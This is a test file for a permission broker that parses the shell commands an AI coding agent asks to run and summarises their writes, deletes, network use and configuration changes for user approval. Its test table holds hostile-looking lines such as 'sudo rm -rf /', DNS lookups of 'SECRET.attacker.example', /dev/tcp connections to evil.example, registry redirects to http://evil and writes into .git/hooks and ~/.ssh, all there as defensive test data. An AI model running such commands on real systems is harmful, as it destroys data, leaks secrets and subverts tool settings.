import * as assert from 'node:assert/strict';
import { join } from 'node:path';
import { commandEffects, effectsSummary, summarizeCommandLine, type CommandEffects, type PathClass } from '../../../../../src/broker/permissions/shell/commandEffects';
import { placeOf } from '../../../../../src/broker/permissions/toolPaths';
import { askPermission } from '../../../../../src/broker/askWithPolicy';
import type { PendingRequest } from '../../../../../src/broker/contract/schemas';
import { loadShellParser, SHELL_WASM_FILES, type ShellParser, type SubCommand } from '../../../../../src/broker/permissions/shell/shellCommand';
import { displayToolCall } from '../../../../../src/broker/permissions/toolCallDisplay';
import { makeBroker, makePolicy } from '../../../helpers/fakes';
import { ROOT } from '../../../helpers/repoRoot';

const WASM = join(ROOT, 'node_modules', '@vscode', 'tree-sitter-wasm', 'wasm');
const loadParser = () => loadShellParser({ treeSitterWasm: join(WASM, SHELL_WASM_FILES.treeSitter), bashWasm: join(WASM, SHELL_WASM_FILES.bash) });

/** A classifier for tests: the workspace is /ws; agent, editor and git configuration and ~/.ssh are protected. */
const classify: PathClass = (path) => {
  const resolved = path.startsWith('/') || path.startsWith('~') ? path : `/ws/${path}`.replace(/\/\.?$/, '');
  const parts = resolved.split('/').filter((p) => p !== '' && p !== '.');
  const guarded = parts.findIndex((p) => ['.git', '.vscode', '.claude', '.codex'].includes(p));
  if (guarded >= 0 || resolved.startsWith('~/.ssh')) return { place: 'protected', resolved, what: `${parts[guarded] ?? '.ssh'} (protected)` };
  return { place: resolved === '/ws' || resolved.startsWith('/ws/') ? 'workspace' : 'outside', resolved };
};

/** What a line must do; fields left out are not checked, `[]` means none. */
interface Expected {
  programs?: string[];
  writes?: Array<[string, 'workspace' | 'outside' | 'protected']>;
  unknownWrites?: RegExp[];
  deletes?: RegExp[];
  network?: RegExp[];
  changesConfig?: RegExp[];
  notAnalysed?: RegExp[];
  workspaceCode?: RegExp[];
}

const CASES: Array<[string, Expected]> = [
  // reading only
  ['git status', { programs: ['git'], writes: [], unknownWrites: [], deletes: [], network: [], changesConfig: [] }],
  ['git log --oneline | grep fix | head -5', { programs: ['git', 'grep', 'head'], writes: [], network: [] }],
  ['echo https://example.com', { network: [] }],
  ['cat file > /dev/null 2>&1', { writes: [] }],
  // redirections
  ['echo hi > out.txt', { writes: [['out.txt', 'workspace']] }],
  ['echo hi >> /tmp/x.log', { writes: [['/tmp/x.log', 'outside']] }],
  ['echo hi >| "out file.txt"', { writes: [['out file.txt', 'workspace']] }],
  ['make &> build.log', { writes: [['build.log', 'workspace']] }],
  ['echo x > .git/hooks/pre-commit', { writes: [['.git/hooks/pre-commit', 'protected']] }],
  ['echo x > ~/.bashrc', { writes: [['~/.bashrc', 'outside']] }],
  ['echo x > "$OUT"', { writes: [], unknownWrites: [/\$OUT.*known only when it runs/] }],
  ['echo x > /dev/stdout', { writes: [] }],
  // /dev/tcp and /dev/udp, in either direction
  ['cat < /dev/tcp/example.com/80', { network: [/opens \/dev\/tcp\/example\.com\/80/], writes: [] }],
  ['echo x > /dev/udp/10.0.0.1/53', { network: [/\/dev\/udp\/10\.0\.0\.1\/53/] }],
  // copies, moves, links
  ['cp a.txt b.txt', { programs: ['cp'], writes: [['b.txt', 'workspace']], unknownWrites: [] }],
  ['cp a.txt ~/b.txt', { writes: [['~/b.txt', 'outside']] }],
  ['cp x .git/hooks/pre-commit', { writes: [['.git/hooks/pre-commit', 'protected']] }],
  ["cp x .git/hoo''ks/pre-commit", { writes: [['.git/hooks/pre-commit', 'protected']] }],
  ['cp -t dist a b', { writes: [['dist', 'workspace']] }],
  ['cp --target-directory=/opt a b', { writes: [['/opt', 'outside']] }],
  ['cp --target=/opt a', { writes: [['/opt', 'outside']] }],
  ['cp --frobnicate a b', { writes: [['b', 'workspace']], unknownWrites: [/option not understood.*--frobnicate/] }],
  ['cp -r payload/. .', { writes: [['.', 'workspace']], unknownWrites: [/cp -r copies whatever the source folder holds/] }],
  ['mv a.txt /tmp/', { writes: [['/tmp/', 'outside']], deletes: [/^a\.txt \(moved away\)$/] }],
  ['install -m 755 tool /usr/local/bin/tool', { writes: [['/usr/local/bin/tool', 'outside']] }],
  ['install x /dev/stdin', { writes: [['/dev/stdin', 'outside']] }],
  ['ln -sf target .claude/settings.json', { writes: [['.claude/settings.json', 'protected']] }],
  ['rsync -av src/ backup/', { writes: [['backup/', 'workspace']], unknownWrites: [/rsync -r copies whatever/], network: [] }],
  ['rsync -a src/ user@host:dest/', { writes: [], network: [/rsync copies to or from another host \(user@host:dest\/\)/] }],
  ['scp user@host:/etc/passwd ./p', { writes: [['./p', 'workspace']], network: [/scp copies files over ssh/] }],
  // other writers
  [
    'ls | tee listing.txt ~/copy.txt',
    {
      writes: [
        ['listing.txt', 'workspace'],
        ['~/copy.txt', 'outside'],
      ],
    },
  ],
  ['dd if=/dev/zero of=disk.img bs=1M count=1', { writes: [['disk.img', 'workspace']] }],
  [
    "sed -i 's/a/b/' src/x.ts src/y.ts",
    {
      writes: [
        ['src/x.ts', 'workspace'],
        ['src/y.ts', 'workspace'],
      ],
    },
  ],
  ["sed -i.bak -e 's/a/b/' ~/.profile", { writes: [['~/.profile', 'outside']] }],
  ["sed 's/a/b/w out' in.txt", { writes: [], unknownWrites: [/sed script may write files/] }],
  ["perl -pi -e 's/a/b/' conf.ini", { writes: [['conf.ini', 'workspace']], notAnalysed: [/what perl runs/] }],
  ['touch .vscode/settings.json', { writes: [['.vscode/settings.json', 'protected']] }],
  ['mkdir -p build/out', { writes: [['build/out', 'workspace']] }],
  ['truncate -s 0 /var/log/x.log', { writes: [['/var/log/x.log', 'outside']] }],
  ['sort -o sorted.txt in.txt', { writes: [['sorted.txt', 'workspace']] }],
  ['sort -k2 in.txt', { writes: [] }],
  ['split -l 100 big.txt part-', { writes: [['part-…', 'workspace']] }],
  ['git log --output=/tmp/log.txt', { writes: [['/tmp/log.txt', 'outside']] }],
  ['git diff --outp ../x.patch', { writes: [['../x.patch', 'workspace']] }],
  ['gcc -fno-omit-frame-pointer -o app main.c', { writes: [['app', 'workspace']] }],
  ['openssl genrsa -out ~/.ssh/key.pem 2048', { writes: [['~/.ssh/key.pem', 'protected']], network: [] }],
  ['curl -o page.html https://example.com', { writes: [['page.html', 'workspace']], network: [/curl downloads or sends data \(https:\/\/example\.com\)/] }],
  ['gzip big.log', { writes: [['big.log.gz', 'workspace']], deletes: [/^big\.log \(replaced/] }],
  // writes whose destinations are known only when it runs
  ['tar xf x.tar -C ~', { unknownWrites: [/tar extracts files named inside the archive \(into ~\)/] }],
  ['tar -xzf x.tgz', { unknownWrites: [/tar extracts/] }],
  ['tar czf out.tgz src', { writes: [['out.tgz', 'workspace']], unknownWrites: [] }],
  ['unzip a.zip -d out', { unknownWrites: [/unzip extracts files named inside the archive \(into out\)/] }],
  ['unzip -l a.zip', { unknownWrites: [] }],
  ['git apply fix.patch', { unknownWrites: [/git apply \/ git am \/ patch write the files the patch names/] }],
  ['git apply --check fix.patch', { unknownWrites: [] }],
  ['git am < mail.mbox', { unknownWrites: [/patch names/] }],
  ['patch -p1 < fix.diff', { unknownWrites: [/patch names/] }],
  ['git checkout other-branch', { unknownWrites: [/files a commit holds/] }],
  ['wget https://example.com/x.sh', { unknownWrites: [/wget saves under the name the URL ends with/], network: [/wget downloads files/] }],
  ['cd /tmp && touch x', { programs: ['cd', 'touch'], writes: [], unknownWrites: [/touch writes x, relative to a folder cd changed to/] }],
  ['cd /tmp && touch /ws/ok', { writes: [['/ws/ok', 'workspace']] }],
  ['cp a "$DEST"', { writes: [], unknownWrites: [/cp writes to "\$DEST", known only when it runs/] }],
  // deletes
  ['rm build.log', { deletes: [/^build\.log$/], writes: [] }],
  ['rm -rf ~/important', { deletes: [/^~\/important \(outside the workspace\)$/] }],
  ['rm -rf .git/hooks', { deletes: [/^\.git\/hooks \(\.git \(protected\)\)$/] }],
  ['rmdir empty', { deletes: [/^empty$/] }],
  ['unlink link', { deletes: [/^link$/] }],
  ['git rm old.ts', { deletes: [/^old\.ts$/] }],
  ['git rm --cached old.ts', { deletes: [] }],
  ['git clean -fdx', { deletes: [/untracked files \(git clean\), ignored ones too/] }],
  ['find . -name "*.o" -delete', { deletes: [/files find matches \(under \.\)/] }],
  ['find . -name x -exec rm {} \\;', { programs: ['find', 'rm'], deletes: [/the files find gives rm/] }],
  ['ls | xargs rm', { programs: ['ls', 'xargs', 'rm'], deletes: [/the files xargs gives rm/] }],
  ['shred -u secret.txt', { writes: [['secret.txt', 'workspace']], deletes: [/^secret\.txt$/] }],
  // network
  ['git ls-remote http://host/SECRET', { network: [/git ls-remote contacts http:\/\/host\/SECRET/] }],
  ['git push origin main', { network: [/git push contacts a remote repository/] }],
  ['git fetch', { network: [/git fetch/] }],
  ['dig SECRET.attacker.example', { network: [/dig asks a name server about a name \(SECRET\.attacker\.example\)/] }],
  ['nslookup x.example', { network: [/nslookup/] }],
  ['ping -c 1 -p ff00 host.example', { network: [/ping sends packets to a host \(host\.example\)/] }],
  ['traceroute host.example', { network: [/traceroute sends packets/] }],
  ['openssl s_client -connect h:443 -servername SECRET', { network: [/openssl s_client connects to a host \(h:443\)/] }],
  ['ssh -N -R 8080:localhost:80 user@host', { network: [/ssh connects to a host \(user@host\)/] }],
  ['nc -l 4444', { network: [/nc opens a network connection/] }],
  ['kubectl get pods --server=https://elsewhere', { network: [/kubectl get talks to the cluster/, /--server=https:\/\/elsewhere sends requests to that server/] }],
  ['npm install left-pad', { network: [/npm install contacts the package registry/], writes: [['node_modules/', 'workspace']], notAnalysed: [/what npm install runs/] }],
  ['pip install requests', { network: [/pip install contacts the package index/] }],
  ['mytool fetch https://example.com/data', { network: [/mytool is given https:\/\/example\.com\/data/] }],
  ['docker pull alpine', { network: [/docker pull contacts an image registry/] }],
  ['gh pr list', { network: [/gh pr calls GitHub's API/] }],
  // sub-commands that change later commands
  ['npm config set script-shell /tmp/x.sh', { changesConfig: [/^npm config set script-shell changes npm's settings/], network: [] }],
  ['npm set registry http://evil', { changesConfig: [/npm set registry changes npm's settings/], network: [] }],
  ['npm pkg set scripts.test=./x.sh', { changesConfig: [/package\.json, whose scripts/] }],
  ['yarn config set npmRegistryServer http://x', { changesConfig: [/yarn's settings/] }],
  ['pnpm config set store-dir /tmp', { changesConfig: [/pnpm's settings/] }],
  ['pip config set global.index-url http://evil', { changesConfig: [/pip config set global\.index-url changes pip's settings/], network: [] }],
  ['git config core.pager less', { changesConfig: [/git config core\.pager changes git's settings/] }],
  ['git config --global alias.x "!sh"', { changesConfig: [/git config alias\.x/] }],
  ['git config user.name', { changesConfig: [] }],
  ['git config --get core.pager', { changesConfig: [] }],
  ['git config list', { changesConfig: [] }],
  ['git remote set-url origin http://evil', { changesConfig: [/git remote set-url origin changes where a git remote points/], network: [] }],
  ['kubectl config use-context prod', { changesConfig: [/the kubeconfig/], network: [] }],
  ['kubectl config view', { changesConfig: [], network: [] }],
  ['docker context use remote', { changesConfig: [/which Docker daemon/] }],
  ['gh config set editor vim', { changesConfig: [/gh's settings/], network: [] }],
  ['go env -w GOFLAGS=-toolexec=x', { changesConfig: [/go env GOFLAGS=-toolexec=x changes Go's environment/] }],
  // wrappers: the programs behind them count
  ['sudo rm -rf /', { programs: ['sudo', 'rm'], deletes: [/^\/ \(outside the workspace\)$/] }],
  ['sudo -u root tee /etc/hosts', { programs: ['sudo', 'tee'], writes: [['/etc/hosts', 'outside']] }],
  // What npm test runs is named as the workspace's code (package.json's script), not as code not analysed.
  ['env FOO=1 BAR=2 npm test', { programs: ['env', 'npm'], notAnalysed: [], workspaceCode: [/package\.json's test script/] }],
  ['timeout 5 curl https://x.example', { programs: ['timeout', 'curl'], network: [/curl/] }],
  ['nice -n 10 nohup cp a /tmp/b', { programs: ['nice', 'nohup', 'cp'], writes: [['/tmp/b', 'outside']] }],
  ['/usr/bin/time -o times.txt make', { programs: ['time', 'make'], writes: [['times.txt', 'workspace']] }],
  ['xargs -n1 cp -t dest', { programs: ['xargs', 'cp'], writes: [['dest', 'workspace']] }],
  // code the analysis cannot see
  ["sh -c 'rm -rf /'", { programs: ['sh'], notAnalysed: [/what sh runs/], deletes: [] }],
  ['python3 script.py', { programs: ['python'], notAnalysed: [/what python runs/] }],
  ['$TOOL --version', { notAnalysed: [/the program \$TOOL is known only when it runs/] }],
];

suite('what a command does (commandEffects)', () => {
  let parser: ShellParser;
  suiteSetup(async () => {
    parser = await loadParser();
  });
  const commandsOf = (line: string): SubCommand[] => {
    const parsed = parser.parse(line);
    assert.ok(parsed.ok, `${line} parses: ${parsed.ok ? '' : parsed.reason}`);
    return parsed.commands;
  };
  const effectsOf = (line: string): CommandEffects => commandEffects(commandsOf(line), classify);

  test(`a table of ${CASES.length} command lines: programs, writes and where, unknown writes, deletes, network, configuration`, () => {
    assert.ok(CASES.length >= 60);
    const failures: string[] = [];
    const check = (ok: boolean, message: string) => void (ok || failures.push(message));
    for (const [line, expected] of CASES) {
      const parsed = parser.parse(line);
      if (!parsed.ok) {
        failures.push(`${line}: does not parse (${parsed.reason})`);
        continue;
      }
      const effects = commandEffects(parsed.commands, classify);
      const context = `${line} → ${JSON.stringify(effects)}`;
      if (expected.programs) check(JSON.stringify(effects.programs) === JSON.stringify(expected.programs), `programs: ${context}`);
      if (expected.writes) check(JSON.stringify(effects.writes.map((w) => [w.path, w.place])) === JSON.stringify(expected.writes), `writes: ${context}`);
      for (const key of ['unknownWrites', 'deletes', 'network', 'changesConfig', 'notAnalysed', 'workspaceCode'] as const) {
        const patterns = expected[key];
        if (!patterns) continue;
        const actual = effects[key];
        check(actual.length === patterns.length && patterns.every((pattern, i) => pattern.test(actual[i]!)), `${key}: ${context}`);
      }
    }
    assert.deepEqual(failures, []);
  });

  test('a protected write carries what the file is', () => {
    const [write] = effectsOf('cp x .claude/settings.json').writes;
    assert.deepEqual(write, { path: '.claude/settings.json', place: 'protected', what: '.claude (protected)' });
  });

  test('an input redirection from /dev/tcp is read from `reads` when the parser gives it', () => {
    const [command] = commandsOf('cat file');
    const withReads = { ...command!, reads: ['/dev/tcp/evil.example/443'] } as SubCommand;
    assert.deepEqual(commandEffects([withReads], classify).network, ['a redirection of cat opens /dev/tcp/evil.example/443']);
  });

  test('the summary: one line with the programs, and says plainly when nothing is written, sent or deleted', () => {
    const summary = (line: string) => effectsSummary(effectsOf(line));
    // git status is a runner (it runs the repository's core.fsmonitor): cardTruth.test.ts reads the repository's config for it.
    assert.equal(summary('git log'), 'Runs git. Writes nothing, no network, deletes nothing.');
    assert.equal(summary('git log | grep fix'), 'Runs git, grep. Writes nothing, no network, deletes nothing.');
    assert.equal(summary('echo a > a.txt; echo b > b.txt'), 'Runs echo. Writes a.txt, b.txt in the workspace. No network, deletes nothing.');
    assert.equal(summary('touch a b c'), 'Runs touch. Writes 3 files in the workspace. No network, deletes nothing.');
    assert.equal(summary('cp x ~/x'), 'Runs cp. Writes outside the workspace: ~/x. No network, deletes nothing.');
    assert.equal(summary('cp hook .git/hooks/pre-commit'), 'Runs cp. Writes .git/hooks/pre-commit (.git (protected)). No network, deletes nothing.');
    // Programs whose effects are not all modelled (ssh writes known_hosts, npm config writes .npmrc, tar has --to-command) never say "nothing".
    assert.equal(
      summary('ssh host uptime && rm -r build/'),
      'Runs ssh, rm. Reaches the network (ssh connects to a host (host)). Deletes build/. Not analysed: what ssh does. Writes: not known, other network use: not known, other deletes: not known.',
    );
    assert.equal(
      summary('npm config set script-shell ./x.sh'),
      "Runs npm. Changes configuration: npm config set script-shell changes npm's settings for later npm commands. Not analysed: what npm does. Writes: not known, network: not known, deletes: not known.",
    );
    assert.equal(
      summary('tar xf a.tar'),
      'Runs tar. Writes files not known before it runs (tar extracts files named inside the archive). Not analysed: what tar does. Other writes: not known, network: not known, deletes: not known.',
    );
    assert.ok(!summary('git status').includes('\n'));
  });

  test('the summary stays short for long lines', () => {
    const line = Array.from({ length: 40 }, (_, i) => `cp a${i} /tmp/very/long/folder/name/that/goes/on/and/on/${i}`).join('; ');
    const summary = effectsSummary(effectsOf(line));
    assert.ok(summary.length < 400, `${summary.length}: ${summary}`);
    assert.match(summary, /Writes outside the workspace: .* and 37 more\./);
  });

  test('a line the parser refuses is summarised as not analysed, with why', () => {
    assert.equal(summarizeCommandLine(parser.parse('echo $(('), classify), 'Not analysed: the command line has a shell syntax error.');
  });

  test('paths as the rules place them: relative paths from the first folder, protected files by name, `//` and `.` normalised', () => {
    const place = (path: string) => placeOf(path, { workspaceFolders: ['/ws'], home: '/home/dev' });
    assert.equal(place('src/a.ts').place, 'workspace');
    assert.equal(place('/ws/src/a.ts').place, 'workspace');
    assert.equal(place('/etc/passwd').place, 'outside');
    assert.equal(place('~/x').place, 'outside');
    assert.equal(place('../x').place, 'outside');
    assert.equal(place('.git//hooks/pre-commit').place, 'protected');
    assert.equal(place('.git/./hooks/pre-commit').place, 'protected');
    assert.equal(place('.claude/settings.json').place, 'protected');
    assert.equal(place('src/a.ts').resolved, '/ws/src/a.ts');
  });

  test("a shell command's permission request carries the summary for the card, with the policy's workspace folders", async () => {
    const { broker } = makeBroker();
    const policy = makePolicy();
    const added = new Promise<PendingRequest>((resolve) => broker.onDidChange((c) => c.type === 'added' && resolve(c.request)));
    const display = displayToolCall('Bash', { command: 'cp a.txt b.txt && cp a.txt ~/b.txt' }, ['/home/dev/project']);
    assert.ok(display.ok);
    const response = askPermission(broker, { source: { type: 'mcp', label: 'Claude Code' }, title: 'Run it?', detail: 'cp', toolCall: display.toolCall }, policy);
    const request = await added;
    assert.equal(
      request.kind === 'permission' ? request.toolCall?.summary : undefined,
      'Runs cp. Writes outside the workspace: ~/b.txt. Writes b.txt in the workspace. No network, deletes nothing.',
    );
    broker.decide(request.id, 'deny', { by: 'user', where: 'panel' });
    assert.equal((await response).decision, 'deny');
  });
});
